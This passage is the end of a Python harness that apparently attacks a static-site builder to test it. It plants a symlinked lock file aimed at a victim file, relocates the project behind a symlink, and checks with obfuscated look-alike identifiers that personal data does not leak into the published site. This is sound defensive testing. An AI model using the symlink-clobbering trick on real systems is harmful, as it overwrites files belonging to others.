            "site-lost": run.returncode != 0 or sorted(p.name for p in target.iterdir()) != ["penting.txt"]}


def _planted_lock(work: Path) -> dict[str, bool]:
    victim = work / "korban.txt"
    victim.write_text("jangan ditimpa")
    os.symlink(victim, work / ".site.lock")
    run = _build(work)
    return {"hang": run.timed_out, "traceback": "Traceback" in run.out,
            "site-lost": victim.read_text() != "jangan ditimpa" or not _whole(work)}


def _same_bytes(env: dict[str, str], move: bool) -> Callable[[Path], dict[str, bool]]:
    def run(work: Path) -> dict[str, bool]:
        reference = snapshot(work / "site")
        if move:
            (work / "proyek").rename(work / "proyek-lain")
            os.symlink("proyek-lain", work / "proyek")  # the command still names proyek/; its files live elsewhere
        result = _build(work, env)
        return {"hang": result.timed_out, "traceback": "Traceback" in result.out,
                "published-bad": result.returncode != 0 or snapshot(work / "site") != reference}
    return run


# --------------------------------------------------------------------------


def all_attempts() -> list[Attempt]:
    return [*corpus_attempts(), *leak_attempts(), *page_attempts(), *markdown_attempts(), *machine_attempts(),
            *cli_attempts(), *site_attempts()]


def clean_base(folder: Path) -> Path:
    """The example project with a clean build in site/, and that build's bytes in before.json."""
    project_copy(folder)
    run = _build(folder)
    if run.returncode:
        sys.exit(f"the example does not build cleanly:\n{run.out}")
    (folder / "before.json").write_text(json.dumps({k: v.hex() for k, v in snapshot(folder / "site").items()}))
    return folder


def self_check(base: Path) -> None:
    """The oracle must see what it is meant to see: the example's consented names, and nothing planted."""
    text = published(base / "site")
    assert found("Onanda Laurina Koby", text) and found("Onanda-Laurina", text), "oracle misses a published name"
    assert not any(found(s, text) for s in (NIK, PHONE, EMAIL, "Maria Goreti Ulu")), "oracle sees what is not there"
    assert found(NIK, skeleton("NIK 5371O1234567OOO1")) and found(NAME, skeleton("Оnanda\u00ad Laurina Kоby"))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("--only", nargs="*", help="kinds to run (corpus, identifier, name, page-code, ...)")
    parser.add_argument("--list", action="store_true", help="list the attempts and stop")
    args = parser.parse_args(argv)
    attempts = [a for a in all_attempts() if not args.only or a.kind in args.only]
    if args.list:
        for a in attempts:
            print(f"{a.kind:15} {a.name}")
        print(len(attempts), "attempts")
        return 0
    started = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="warta-attack-base-") as tmp:
        base = clean_base(Path(tmp))
        self_check(base)
        with concurrent.futures.ThreadPoolExecutor(args.jobs) as pool:
            results = []
            for done in pool.map(lambda a: attempt_result(a, base), attempts):
                results.append(done)
                print(f"\r{len(results)}/{len(attempts)}", end="", file=sys.stderr, flush=True)
            print(file=sys.stderr)
    table: dict[str, Counter[str]] = {}
    for r in results:
        row = table.setdefault(r.attempt.kind, Counter())
        row["attempts" if not r.skipped else "not run"] += 1
        row.update(r.scores)
    kinds = list(dict.fromkeys(a.kind for a in attempts))
    columns = ("attempts", *OUTCOMES, "not run")
    print(f"{'kind':16}" + "".join(f"{c:>14}" for c in columns))
    for kind in kinds:
        print(f"{kind:16}" + "".join(f"{table[kind][c]:>14}" for c in columns))
    total = sum(table.values(), Counter())
    print(f"{'all':16}" + "".join(f"{total[c]:>14}" for c in columns))
    for r in results:
        if r.scores:
            print(f"  {r.attempt.kind}/{r.attempt.name}: {', '.join(sorted(r.scores))}  {r.detail}")
    print(f"{len(results)} attempts in {time.monotonic() - started:.0f} s")
    return 1 if any(r.scores for r in results) else 0


if __name__ == "__main__":
    raise SystemExit(main())
